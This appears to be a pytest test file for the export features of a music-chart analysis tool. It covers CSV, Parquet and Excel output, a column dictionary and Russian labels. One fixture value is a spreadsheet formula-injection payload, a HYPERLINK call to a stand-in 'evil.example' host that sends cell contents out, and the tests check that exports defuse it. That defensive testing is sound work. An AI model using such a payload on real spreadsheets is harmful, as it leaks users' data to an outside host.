"""Exports: every form holds the same, nothing in them runs, every column is described."""

from __future__ import annotations

import csv
import io
import math
import re
import zipfile
from contextlib import suppress
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pyarrow import parquet

from chartropy.features.registry import DESCRIPTORS, EXTRACTOR_VERSION
from chartropy.reports import files, workbook
from chartropy.reports.dictionary import COLUMNS, as_markdown, as_table, columns_in, sheet_in, typed
from chartropy.reports.files import FORMULA_STARTS, harmless, write_table
from chartropy.reports.page import TABLES
from chartropy.reports.tables import NAMES, Tables
from chartropy.reports.words import ENGLISH, words_in
from chartropy.reports.workbook import write_workbook
from chartropy.workspace import tables as t
from chartropy.workspace.errors import DiskFull, SettingsError, WorkspaceReadOnly
from chartropy.workspace.store import upsert

from .test_languages import ENGLISH_WORDS

RUSSIAN = words_in("ru")
CYRILLIC = re.compile("[а-яё]", re.IGNORECASE)
CODES = r"`[^`]+`|\b[\w/]+\.md\b|\b(?:ai|human|undecided|unmeasured|weekly|monthly) — |\(\w+(?:,\s+\w+)+\)|таблиц entries.* composite|##? \w+"
"""Codes that stay as they are in any language."""

MADE_AT = datetime(2026, 7, 3, 9, 30, tzinfo=UTC)
WEEKS = ("2026-06-18", "2026-06-25", "2026-07-02")
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"-1")'
LISTS = {
    "yandex-chart": [("Ёлка", "Прованс"), ("Zivert", EVIL), ("@home", "+7")],
    "deezer-top": [("Zivert", EVIL), ("Dabro", "Юность; «да»"), ("NA", "-5")],
}


@pytest.fixture
def chartropy(workspace, command_line, monkeypatch):
    """Run a command in a workspace; return its exit code, what it said and what it complained of."""
    monkeypatch.setenv("CHARTROPY_NOW", "2026-07-03T09:30:00+00:00")
    monkeypatch.setenv("CHARTROPY_COLLECT", "[]")

    def run(*arguments: object) -> tuple[int, str, str]:
        place = [] if arguments[0] == "dictionary" else ["--workspace", workspace.folder]
        return command_line(*arguments, *place)

    return run


@pytest.fixture
def season(chartropy, workspace, tmp_path) -> Tables:
    """A row at least in every table: two charts of three weeks; what was only on the first one; ten weeks measured."""
    page = tmp_path / "chart.csv"
    for source, entries in LISTS.items():
        for week in WEEKS:
            rows = [*entries, *([("Давно", "Ушла")] if week == WEEKS[0] and source == "deezer-top" else [])]
            with page.open("w", encoding="utf-8", newline="") as file:
                csv.writer(file).writerows(
                    [("position", "artist", "title"), *((n, *one) for n, one in enumerate(rows, 1))]
                )
            assert chartropy("import", page, "--source", source, "--week", week)[0] in (0, 3)
    recordings = Tables(workspace).recordings().set_index("title")["recording_id"]
    about = {"source": "deezer", "chart": "top", "country": "ru"}
    values = np.random.default_rng(1).normal(size=10).cumsum()
    measures = [
        about
        | {
            "week": (date(2026, 7, 2) - timedelta(weeks=9 - i)).isoformat(),
            "measure": "cultural_entropy",
            "value": value,
            "low": None if i == 0 else value - 1 / 3,
            "high": value + 0.1,
            "n": 3,
            "method": "m",
            "inputs": "x",
        }
        for i, value in enumerate(map(float, values))
    ]
    vector = np.linspace(-1, 1, len(DESCRIPTORS)).astype("<f4")
    vector[3] = np.nan
    with workspace.store.transaction() as connection:
        upsert(connection, t.measure, measures)
        upsert(
            connection,
            t.gap,
            [about | {"week": "2026-06-25", "period": "weekly", "reason": "-40 rows", "passing": 0}],
        )
        for recording, probability in ((recordings["Прованс"], 0.1), (recordings["Ушла"], None)):
            digest = f"{recording:0<64}"
            verdict = "human" if probability else "unmeasured"
            upsert(
                connection,
                t.preview,
                [
                    {
                        "recording_id": recording,
                        "provider": "deezer",
                        "sha256": digest,
                        "asked_on": WEEKS[0],
                        "passing": 0,
                    }
                ],
            )
            upsert(
                connection,
                t.verdict,
                [
                    {
                        "recording_id": recording,
                        "model_version": "m-1",
                        "verdict": verdict,
                        "probability": probability,
                        "reason": "because",
                        "measured_at": "2026-07-03T06:00:00+00:00",
                    }
                ],
            )
            upsert(
                connection,
                t.descriptor,
                [
                    {
                        "sha256": digest,
                        "extractor_version": EXTRACTOR_VERSION,
                        "names": " ".join(DESCRIPTORS),
                        "vector": vector.tobytes(),
                        "sketch": b"",
                    }
                ],
            )
        upsert(
            connection,
            t.label,
            [
                {
                    "recording_id": recordings["Прованс"],
                    "source": "registry",
                    "subject": "Ёлка",
                    "label": "ai",
                    "ground": "said so",
                    "labelled_at": "2026-05-01",
                }
            ],
        )
    return Tables(workspace)


# -- the dictionary ----------------------------------------------------------------------------------------------------


def test_every_column_is_described_and_no_other(season, workspace):
    for name, table in season:
        assert len(table), name
        assert list(table.columns) == list(COLUMNS[name]), name
    for name in NAMES:
        for column in COLUMNS[name].values():
            assert column.meaning.strip(), (name, column)


def test_an_empty_workspace_has_the_same_columns(workspace):
    for name, table in Tables(workspace):
        known = [column for column in COLUMNS[name] if column not in DESCRIPTORS]  # columns of what was described
        assert list(table.columns) == known, name


def test_cells_are_what_the_dictionary_says(season):
    for name, table in season:
        table = typed(table, COLUMNS[name])
        for column in COLUMNS[name].values():
            cells = table[column.name]
            missing = cells.isna() | (cells.astype(object) == "")
            assert column.empty or not missing.any(), (name, column.name)
            known = cells[~missing]
            if column.type in ("whole", "number"):
                assert cells.dtype.kind == {"whole": "i", "number": "f"}[column.type], (name, column.name)
                if column.name not in DESCRIPTORS:
                    assert column.low is None or (known >= column.low).all(), (name, column.name)
                    assert column.high is None or (known <= column.high).all(), (name, column.name)
            else:
                assert all(isinstance(cell, str) for cell in known), (name, column.name)
                if column.type != "text":
                    assert all(datetime.fromisoformat(cell) for cell in known)


def test_the_files_beside_pages_have_no_other_columns():
    reports = (Path(__file__).resolve().parents[2] / "docs" / "REPORTS.md").read_text(encoding="utf-8")
    for name, columns in TABLES.items():
        if name in ("trends", "comparisons"):  # made for the page alone: described beside it
            described = set(re.findall(r"\w+", reports[reports.index(f"| `{name}.csv` |") :]))
            assert set(columns) <= described, name
        else:
            assert set(columns) <= set(COLUMNS[name]), name
    assert "`synthetic`" in as_markdown()  # which these have where music is made up


def test_stored_columns_are_described_where_they_are_stored():
    assert COLUMNS["entries"]["plays"].meaning == t.entry.c.plays.doc
    assert COLUMNS["measures"]["low"].meaning == t.measure.c.low.doc
    one = DESCRIPTORS["timbre.centroid.mean"]
    assert COLUMNS["descriptors"][one.name].unit == one.unit
    assert one.definition in COLUMNS["descriptors"][one.name].meaning


def test_the_page_in_the_docs_is_the_dictionary():
    docs = Path(__file__).resolve().parents[2] / "docs" / "DATA.md"
    assert docs.read_text(encoding="utf-8") == as_markdown()


def test_the_dictionary_is_printed_and_written(chartropy, tmp_path):
    assert chartropy("dictionary")[1] == as_markdown()
    for form in ("md", "csv", "xlsx", "parquet"):
        assert chartropy("dictionary", "--out", tmp_path / f"d.{form}")[0] == 0
    assert (tmp_path / "d.md").read_text("utf-8") == as_markdown()
    assert len(pd.read_csv(tmp_path / "d.csv")) == len(as_table()) == sum(map(len, COLUMNS.values()))
    assert chartropy("dictionary", "--out", tmp_path / "d.doc")[0] == 2


# -- CSV ---------------------------------------------------------------------------------------------------------------

TEXTS = st.one_of(
    st.text(),
    st.builds(str.__add__, st.sampled_from([*FORMULA_STARTS, "\r\n", " ="]), st.text()),
)
NUMBERS = st.one_of(st.none(), st.floats(allow_nan=False, width=64))


# what docs/DATA.md says of older ones
EXACTLY: dict = {} if tuple(map(int, pd.__version__.split(".")[:2])) >= (3, 1) else {"float_precision": "round_trip"}


@given(st.lists(st.tuples(TEXTS, NUMBERS, st.integers(-(2**53), 2**53)), min_size=1, max_size=8))
def test_no_text_is_a_formula_and_numbers_stay_to_the_digit(rows):
    table = pd.DataFrame(rows, columns=["title", "value", "n"]).astype({"value": float})
    out = io.StringIO(newline="")
    files._write_csv(table, out)
    back = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert back[0] == ["title", "value", "n"]
    for (title, value, n), (title_back, value_back, n_back) in zip(rows, back[1:], strict=True):
        assert not title_back.startswith(FORMULA_STARTS)
        written = title.replace("\r\n", "\n").replace("\r", "\n")
        assert title_back in (written, f"'{written}")
        assert (title_back != written) == written.startswith(FORMULA_STARTS)
        assert (float(value_back) if value_back else None) == value
        assert int(n_back) == n
    read = pd.read_csv(io.StringIO(out.getvalue()), **EXACTLY, keep_default_na=False, na_values={"value": [""]})
    assert read["value"].tolist() == pytest.approx(table["value"].tolist(), rel=0, abs=0, nan_ok=True)


@given(st.lists(st.one_of(st.none(), st.floats(allow_nan=False, width=32)), min_size=1))
def test_descriptors_stay_to_the_bit(values):
    table = pd.DataFrame({"value": np.array(values, dtype="f4")})
    out = io.StringIO()
    files._write_csv(table, out)
    read = pd.read_csv(io.StringIO(out.getvalue()), **EXACTLY, skip_blank_lines=False)
    assert np.array_equal(read["value"].to_numpy("f4"), table["value"].to_numpy(), equal_nan=True)


def test_what_is_harmless_is_left_alone():
    table = pd.DataFrame({"title": ["Ночь, «7»", None, "a=b"], "value": [-0.5, None, 1], "n": [-1, 2, 3]})
    assert harmless(table) is table


def test_a_large_table_is_written_in_pieces_that_fit(monkeypatch, tmp_path):
    table = pd.DataFrame({"n": range(25), "title": [f"-{n}" for n in range(25)]})
    write_table(table, tmp_path / "whole.csv", "csv")
    monkeypatch.setattr(files, "ROWS_AT_ONCE", 7)
    write_table(table, tmp_path / "pieces.csv", "csv")
    assert (tmp_path / "pieces.csv").read_bytes() == (tmp_path / "whole.csv").read_bytes()


def test_csv_is_utf8_with_lf_and_a_mark_if_asked(season, chartropy, tmp_path):
    out = tmp_path / "entries.csv"
    assert chartropy("export", "entries", "--out", out)[0] == 0
    plain = out.read_bytes()
    assert b"\r" not in plain
    assert "Ёлка".encode() in plain
    assert f"'{EVIL}".replace('"', '""').encode() in plain
    assert b",'+7," in plain
    assert chartropy("export", "entries", "--out", out, "--bom")[0] == 0
    assert out.read_bytes() == b"\xef\xbb\xbf" + plain
    assert chartropy("export", "entries")[1].encode() == plain
    assert chartropy("export", "entries", "--bom")[1].encode() == b"\xef\xbb\xbf" + plain


def test_whole_numbers_stay_whole_beside_empty_cells(season, workspace, tmp_path):
    with workspace.store.transaction() as connection:
        connection.execute(t.entry.update().where(t.entry.c.position == 1).values(plays=1234567))
    table = season.entries()
    for form in ("csv", "xlsx", "parquet"):
        write_table(table, tmp_path / f"e.{form}", form, name="entries", made_at=MADE_AT)
    assert ",1234567," in (tmp_path / "e.csv").read_text("utf-8")
    assert "1234567.0" not in (tmp_path / "e.csv").read_text("utf-8")
    assert str(parquet.read_schema(tmp_path / "e.parquet").field("plays").type) == "int64"


# -- Parquet -----------------------------------------------------------------------------------------------------------


def test_parquet_has_types_and_says_what_columns_are(season, workspace, chartropy, tmp_path):
    assert chartropy("export", "all", "--format", "parquet", "--out", tmp_path / "full")[0] == 0
    with workspace.store.transaction() as connection:
        for table in (t.gap, t.label, t.measure):
            connection.execute(table.delete())
    assert chartropy("export", "all", "--format", "parquet", "--out", tmp_path / "bare")[0] == 0
    kinds = {"text": "string", "date": "string", "time": "string", "whole": "int64", "number": "double"}
    for folder in ("full", "bare"):
        for name, columns in COLUMNS.items():
            schema = parquet.read_schema(tmp_path / folder / f"{name}.parquet")
            assert schema.names == list(columns)
            for field, column in zip(schema, columns.values(), strict=True):
                assert str(field.type) == ("float" if column.name in DESCRIPTORS else kinds[column.type]), column
                assert field.metadata[b"description"].decode() == column.meaning
                assert field.metadata.get(b"range", b"").decode() == column.span
    pd.testing.assert_frame_equal(
        pd.read_parquet(tmp_path / "full" / "descriptors.parquet"), season.descriptors(), check_dtype=False
    )


# -- Excel -------------------------------------------------------------------------------------------------------------


def sheet_of(path: Path, name: str) -> list[list]:
    return [list(row) for row in openpyxl.load_workbook(path)[name].iter_rows()]


def test_cells_are_texts_numbers_and_dates(season, chartropy, tmp_path):
    out = tmp_path / "all.xlsx"
    code, said, _ = chartropy("export", "all", "--out", out)
    assert code == 0
    assert "entries " in said
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["About", *NAMES, "dictionary"]
    for name in NAMES:
        sheet, table = book[name], typed(season.table(name), COLUMNS[name])
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions
        header, *rows = sheet.iter_rows()
        assert [cell.value for cell in header] == list(COLUMNS[name])
        assert len(rows) == len(table)
        for cells, values in zip(rows, table.itertuples(index=False), strict=True):
            for cell, value, column in zip(cells, values, COLUMNS[name].values(), strict=True):
                assert cell.hyperlink is None
                if pd.isna(value) or value == "":
                    assert cell.value is None
                elif column.type in ("whole", "number"):
                    assert cell.data_type == "n"
                    assert cell.value == pytest.approx(float(value), rel=1e-6 if column.name in DESCRIPTORS else 1e-15)
                elif column.type == "text":
                    assert (cell.data_type, cell.value) == ("s", value)
                    assert cell.quotePrefix == value.startswith(FORMULA_STARTS)
                else:
                    assert cell.data_type == "d"
                    assert cell.value == datetime.fromisoformat(value).replace(tzinfo=None)
    titles = [row[8].value for row in book["entries"].iter_rows(min_row=2)]
    assert EVIL in titles
    with zipfile.ZipFile(out) as parts:
        for part in parts.namelist():
            assert b"<f>" not in parts.read(part), part
    about = {row[0].value: row[1].value for row in book["About"].iter_rows()}
    assert about["made at"] == "2026-07-03T12:30:00+03:00"
    assert about["weeks"] == "2026-06-18 to 2026-07-02 (3 of them)"
    assert book["About"]["A9"].hyperlink is not None
    assert book["dictionary"].max_row == len(as_table()) + 1
    assert book.properties.created == MADE_AT.replace(tzinfo=None)


def test_the_same_data_and_time_give_the_same_bytes(season, chartropy, tmp_path):
    for name in ("one", "two"):
        assert chartropy("export", "all", "--out", tmp_path / f"{name}.xlsx")[0] == 0
        assert chartropy("export", "all", "--out", tmp_path / name)[0] == 0
    assert (tmp_path / "one.xlsx").read_bytes() == (tmp_path / "two.xlsx").read_bytes()
    for file in (tmp_path / "one").iterdir():
        assert file.read_bytes() == (tmp_path / "two" / file.name).read_bytes()
    assert {file.name for file in (tmp_path / "one").iterdir()} == {f"{name}.csv" for name in (*NAMES, "dictionary")}


@settings(max_examples=30)
@given(st.lists(st.tuples(TEXTS, NUMBERS), min_size=1, max_size=6))
def test_any_text_stays_a_text_in_excel(tmp_path_factory, rows):
    out = tmp_path_factory.mktemp("any") / "x.xlsx"
    table = pd.DataFrame(rows, columns=["title", "value"]).astype({"value": float})
    write_workbook(out, {"x": table}, made_at=MADE_AT)
    back = sheet_of(out, "x")[1:]
    back += [[None, None]] * (len(rows) - len(back))  # rows without anything
    for (title, value), cells in zip(rows, back, strict=True):
        if title and title.isprintable():
            assert (cells[0].data_type, cells[0].value) == ("s", title)
        if value is not None:
            expected = value if math.isfinite(value) else str(value)
            assert cells[1].value == (pytest.approx(expected, rel=1e-15) if math.isfinite(value) else expected)


def test_dates_and_times_that_excel_has_not_stay_texts(tmp_path):
    table = pd.DataFrame(
        {
            "released": ["1899-12-31", "1900-03-01", "2026", None],
            "measured_at": ["2026-07-03T06:00:00+00:00", "2026-07-03T09:00:00+03:00", "2026-07-03", "soon"],
        }
    )
    write_workbook(tmp_path / "x.xlsx", {"x": table}, made_at=MADE_AT)
    rows = [[cell.value for cell in row] for row in sheet_of(tmp_path / "x.xlsx", "x")[1:]]
    six = datetime(2026, 7, 3, 6)
    assert rows == [
        ["1899-12-31", six],
        [datetime(1900, 3, 1), six],
        ["2026", datetime(2026, 7, 3)],
        [None, "soon"],
    ]


def test_what_a_sheet_does_not_hold_is_refused(monkeypatch, tmp_path):
    table = pd.DataFrame({"n": range(4)})
    monkeypatch.setattr(workbook, "MOST_ROWS", 3)
    with pytest.raises(
        SettingsError, match=r"entries has 4 rows, and a sheet of Excel holds 3: write \.parquet or \.csv"
    ):
        write_workbook(tmp_path / "x.xlsx", {"entries": table}, made_at=MADE_AT)
    assert not list(tmp_path.iterdir())


def test_a_text_too_long_is_refused_or_cut_and_said(tmp_path):
    table = pd.DataFrame({"title": ["a" * 32_767, "b" * 32_768, "я" + "🎵" * 16_384], "n": [1, 2, 3]})
    with pytest.raises(SettingsError, match=r"x: 2 texts in title longer than the 32,767 characters"):
        write_workbook(tmp_path / "x.xlsx", {"x": table}, made_at=MADE_AT)
    assert not list(tmp_path.iterdir())
    cut: list[str] = []
    write_workbook(tmp_path / "x.xlsx", {"x": table}, made_at=MADE_AT, cut=cut)
    assert cut == [
        "x: 2 texts in title longer than the 32,767 characters that a cell of Excel holds, cut there; .csv and .parquet "
        "have them whole"
    ]
    cells = [row[0].value for row in sheet_of(tmp_path / "x.xlsx", "x")[1:]]
    assert cells == ["a" * 32_767, "b" * 32_767, "я" + "🎵" * 16_383]


def test_an_export_that_cut_texts_ends_with_3(season, workspace, chartropy, tmp_path):
    with workspace.store.transaction() as connection:
        connection.execute(t.gap.update().where(t.gap.c.reason == "-40 rows").values(reason="x" * 40_000))
    for asked in ("gaps", "all"):
        code, _, complaint = chartropy("export", asked, "--out", tmp_path / "x.xlsx")
        assert code == 3
        assert "gaps: 1 text in reason longer than the 32,767 characters" in complaint
        assert max(len(row[5].value) for row in sheet_of(tmp_path / "x.xlsx", "gaps")) == 32_767


def test_many_cells_go_to_disk_and_are_the_same(season, monkeypatch, tmp_path):
    tables = {name: table for name, table in season if name != "descriptors"}
    write_workbook(tmp_path / "held.xlsx", tables, made_at=MADE_AT)
    monkeypatch.setattr(workbook, "MANY_CELLS", 0)
    write_workbook(tmp_path / "streamed.xlsx", tables, made_at=MADE_AT)
    for name in tables:
        held, streamed = (sheet_of(tmp_path / f"{way}.xlsx", name) for way in ("held", "streamed"))
        assert [[(cell.value, cell.number_format) for cell in row] for row in held] == [
            [(cell.value, cell.number_format) for cell in row] for row in streamed
        ]


def test_a_disk_that_is_full_leaves_the_old_workbook(monkeypatch, tmp_path):
    table = pd.DataFrame({"n": [1]})
    out = tmp_path / "x.xlsx"
    write_workbook(out, {"x": table}, made_at=MADE_AT)
    before = out.read_bytes()

    def full(*_, **__):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("xlsxwriter.workbook.ZipFile", full)
    with pytest.raises(DiskFull, match=r"x\.xlsx"):
        write_workbook(out, {"x": table}, made_at=MADE_AT)
    assert out.read_bytes() == before
    monkeypatch.undo()
    (tmp_path / "file").write_text("")
    with pytest.raises(WorkspaceReadOnly):
        write_workbook(tmp_path / "file" / "x.xlsx", {"x": table}, made_at=MADE_AT)


# -- languages ---------------------------------------------------------------------------------------------------------


def test_every_column_is_described_in_russian():
    table = as_table(RUSSIAN)
    assert table["called"].map(str.strip).all()
    own = ~table["column"].isin(DESCRIPTORS)
    for column in ("meaning", "called"):
        said = table.loc[own, column].str.replace(CODES, "", regex=True)
        assert [text for text in said if ENGLISH_WORDS.search(text)] == []
    assert table["meaning"].map(CYRILLIC.search).notna().all()
    assert set(table["type"]) == {"текст", "дата", "время", "целое", "число"}
    assert set(table["empty"]) == {"да", "нет"}
    english = as_table(ENGLISH)
    assert table["column"].tolist() == english["column"].tolist()
    assert (
        english.drop(columns="called")[~english["column"].str.endswith("_words")]
        .reset_index(drop=True)
        .equals(as_table())
    )


def test_the_dictionary_in_russian(chartropy, tmp_path):
    said = chartropy("dictionary", "--lang", "ru")[1]
    assert said == as_markdown(RUSSIAN)
    bare = re.sub(CODES + "|" + r"\|[^|\n]*`[^|\n]*`[^|\n]*\|", "", said)
    assert [line for line in bare.splitlines() if ENGLISH_WORDS.search(line)] == []
    assert "| `chart_words` | текст |" in said
    table = as_table(RUSSIAN).set_index("column").loc["rhythm.tempo.sd"]
    assert (table["unit"], table["meaning"].partition(" (")[0]) == (
        "%",
        "Непостоянство темпа: Стандартное отклонение периода удара по окнам в 8 с, в процентах от периода всего фрагмента.",
    )
    assert max(map(len, said.partition("\n## ")[0].splitlines())) <= 132
    assert chartropy("dictionary", "--lang", "ru", "--out", tmp_path / "d.xlsx")[0] == 0
    header, names, first = sheet_of(tmp_path / "d.xlsx", "Словарь")[:3]
    assert [cell.value for cell in header][:3] == ["Таблица", "Столбец", "Тип"]
    assert [cell.value for cell in names][:3] == ["table", "column", "type"]
    assert [cell.value for cell in first][:3] == ["entries", "source", "текст"]
    assert chartropy("dictionary", "--lang", "xx")[0] == 2


def test_a_language_adds_columns_of_words_and_changes_no_other(season, chartropy, tmp_path):
    for form in ("csv", "parquet"):
        assert chartropy("export", "all", "--out", tmp_path / form, "--format", form)[0] == 0
        assert chartropy("export", "all", "--out", tmp_path / f"ru-{form}", "--format", form, "--lang", "ru")[0] == 0
        read = pd.read_csv if form == "csv" else pd.read_parquet
        for name in NAMES:
            plain, worded = (read(tmp_path / folder / f"{name}.{form}") for folder in (form, f"ru-{form}"))
            pd.testing.assert_frame_equal(worded[list(plain.columns)], plain)
            assert list(worded.columns) == list(columns_in(name, RUSSIAN))
            added = list(worded.columns)[len(plain.columns) :]
            assert all(column.endswith("_words") for column in added)
            assert bool(added) == (name not in ("recordings", "descriptors"))
    schema = parquet.read_schema(tmp_path / "ru-parquet" / "entries.parquet")
    assert schema.field("chart").metadata[b"description"].decode() == "какой из чартов этого источника"
    assert schema.field("position").metadata[b"range"].decode() == "от 1"
    assert schema.metadata[b"description"].decode() == "Каждая позиция каждого чарта."
    entries = pd.read_csv(tmp_path / "ru-csv" / "entries.csv")
    said = entries[[f"{name}_words" for name in ("source", "chart", "country", "period")]].drop_duplicates()
    assert sorted(map(tuple, said.to_numpy().tolist())) == [
        ("Deezer", "Deezer", "Россия", "недельный"),
        ("Сводный рейтинг", "Сводный рейтинг", "Россия", "недельный"),
        ("Яндекс Музыка", "Яндекс Музыка", "Россия", "недельный"),
    ]
    verdicts = pd.read_csv(tmp_path / "ru-csv" / "verdicts.csv")
    assert set(verdicts["verdict_words"]) == {"Человек", "Не измерено"}
    gaps = pd.read_csv(tmp_path / "ru-csv" / "gaps.csv")
    assert "'-40 rows" in set(gaps["reason_words"])  # not understood, and safe there too
    assert set(pd.read_csv(tmp_path / "ru-csv" / "labels.csv")["label_words"]) == {"ИИ"}
    assert "Культурная энтропия" in pd.read_csv(tmp_path / "ru-csv" / "measures.csv")["measure_words"][0]


def test_words_in_english(season, chartropy):
    rows = list(csv.DictReader(io.StringIO(chartropy("export", "entries", "--lang", "en")[1])))
    assert {row["chart_words"] for row in rows} == {"Composite", "Deezer", "Yandex Music"}
    assert {row["country_words"] for row in rows} == {"Russia"}
    assert chartropy("export", "entries", "--lang", "xx")[0] == 2


def test_a_workbook_in_russian(season, chartropy, tmp_path):
    out = tmp_path / "all.xlsx"
    assert chartropy("export", "all", "--out", out, "--lang", "ru")[0] == 0
    book = openpyxl.load_workbook(out)
    titles = {name: sheet_in(name, RUSSIAN) for name in (*NAMES, "dictionary")}
    assert book.sheetnames == ["О файле", *titles.values()]
    for name in NAMES:
        sheet = book[titles[name]]
        headings, names, *rows = sheet.iter_rows(values_only=True)
        assert list(names) == list(columns_in(name, RUSSIAN))
        assert all(str(heading).strip() for heading in headings)
        assert [
            heading for heading in headings if not (CYRILLIC.search(str(heading)) or heading in ("ISRC", "n", "p"))
        ] == []
        assert len(rows) == len(season.table(name))
        assert sheet.freeze_panes == "A3"
        assert sheet.auto_filter.ref.startswith("A2:")
    first = book["Позиции"]
    week = [cell.value for cell in first[2]].index("week")
    assert first[3][week].value == datetime(2026, 6, 18)
    assert first[3][week].number_format == "dd.mm.yyyy"
    about = [(row[0].value, row[1].value) for row in book["О файле"].iter_rows()]
    assert [said for _, text in about if (said := re.sub(CODES, "", text or "")) and ENGLISH_WORDS.search(said)] == []
    assert all(CYRILLIC.search(what) for what, _ in about[1:] if what)
    said = {what: text.replace("\N{NO-BREAK SPACE}", " ") for what, text in about if what}
    assert said["недели"] == "с 18 июня 2026 года по 2 июля 2026 года (3 недели)"
    assert said["создано"] == "3 июля 2026 года, 12:30 (Europe/Moscow)"
    assert said["названия недель"].startswith("Последний день недели чарта — четверг")
    assert said["Позиции"].endswith("Каждая позиция каждого чарта.")
    links = {cell.value: cell.hyperlink.location for cell in book["О файле"]["A"] if cell.hyperlink}
    assert links == {title: f"'{title}'!A1" for title in titles.values()}


# -- since -------------------------------------------------------------------------------------------------------------


@pytest.mark.both_databases
def test_since_keeps_the_week_that_holds_the_day_and_later_ones(season):
    for day in ("2026-06-19", "2026-06-25"):  # a Friday, and the Thursday that ends its week
        entries = season.table("entries", since=day)
        assert sorted(set(entries["week"])) == ["2026-06-25", "2026-07-02"]
        assert set(season.table("composite", since=day)["week"]) == {"2026-06-25", "2026-07-02"}
        assert set(season.table("measures", since=day)["week"]) == {"2026-06-25", "2026-07-02"}
        assert set(season.table("gaps", since=day)["week"]) == {"2026-06-25", "2026-07-02"}
    assert len(season.table("entries", since="2020-01-01")) == len(season.entries())


@pytest.mark.both_databases
def test_since_keeps_recordings_that_were_on_a_chart_then(season):
    assert "Ушла" in season.table("recordings", since="2026-06-18")["title"].tolist()
    here = set(season.table("entries", since="2026-06-25")["recording_id"])
    for name in ("recordings", "names", "verdicts", "descriptors", "labels"):
        kept = season.table(name, since="2026-06-25")
        every = season.table(name)
        assert set(kept["recording_id"]) == here & set(every["recording_id"]), name
    kept, every = (
        table.set_index("recording_id")
        for table in (season.table("recordings", since="2026-06-25"), season.recordings())
    )
    pd.testing.assert_frame_equal(kept, every.loc[kept.index])
    assert len(season.table("verdicts", since="2026-06-25")) == len(season.verdicts()) - 1


def test_a_trend_since_a_week_is_of_the_weeks_since(season):
    assert season.table("trend")["n"].tolist() == [10]
    late = season.table("trend", since="2026-05-14", chart="top")
    assert late["n"].tolist() == [8]
    assert late["first"].tolist() == ["2026-05-14"]
    assert late["p"].notna().all()
    assert season.table("trend", since="2026-06-25")["slope"].isna().all()


def test_nothing_since_then_is_said(season, chartropy, tmp_path):
    code, _, complaint = chartropy("export", "entries", "--since", "2027-01-01")
    assert code == 2
    assert "since 2027-01-01: nothing here is of that week or later; the last is of 2026-07-02" in complaint
    assert chartropy("export", "all", "--since", "2027-01-01", "--out", tmp_path / "x")[0] == 2
    assert not (tmp_path / "x").exists()


def test_an_empty_workspace_has_nothing_to_refuse(chartropy, tmp_path):
    assert chartropy("export", "all", "--since", "2026-06-25", "--out", tmp_path / "x.xlsx")[0] == 0


def test_all_since_a_week(season, chartropy, tmp_path):
    assert chartropy("export", "all", "--since", "2026-07-01", "--out", tmp_path / "x")[0] == 0
    assert set(pd.read_csv(tmp_path / "x" / "entries.csv")["week"]) == {"2026-07-02"}
    assert chartropy("export", "all", "--since", "2026-07-01", "--out", tmp_path / "x.xlsx")[0] == 0
    assert any(row[0].value == "since" for row in sheet_of(tmp_path / "x.xlsx", "About"))


# -- wrong usage -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["all"], "all tables go into one workbook or a folder: --out FILE.xlsx or --out FOLDER"),
        (["all", "--out", "x.csv"], "--out x.csv: all tables go into one workbook or a folder"),
        (["all", "--out", "x", "--format", "xlsx"], "--out x --format xlsx: name a file, --out FILE.xlsx"),
        (["all", "--out", "x.xlsx", "--format", "csv"], "name a folder"),
        (["all", "--out", "x", "--format", "ods"], "--format ods: choose csv, parquet or xlsx"),
        (["all", "--out", "x.xlsx", "--bom"], "--bom is for CSV, not for xlsx"),
        (["all", "--out", "x", "--chart", "top"], "--chart is for one table"),
        (["entries", "--out", "x.parquet", "--bom"], "--bom is for CSV, not for parquet"),
        (["entries", "--format", "xlsx"], "Excel is not for a terminal: name a file with --out FILE.xlsx"),
        (["entries", "--out", "x.ods"], "--out x.ods: write .csv, .parquet or .xlsx"),
        (["entries", "--since", "lately"], "--since"),
    ],
)
def test_wrong_usage_is_named(chartropy, tmp_path, monkeypatch, arguments, said):
    monkeypatch.chdir(tmp_path)
    code, _, complaint = chartropy("export", *arguments)
    assert code == 2
    assert said in re.sub(r"\s+", " ", complaint)
    with suppress(FileNotFoundError):
        assert not list((tmp_path / "x").iterdir())
    assert not list(tmp_path.glob("x.*"))


def test_bom_is_refused_before_anything_is_asked(season, chartropy, tmp_path):
    code, _, complaint = chartropy("export", "all", "--out", tmp_path / "pq", "--format", "parquet", "--bom")
    assert code == 2
    assert "--bom is for CSV" in complaint
    assert not (tmp_path / "pq").exists()
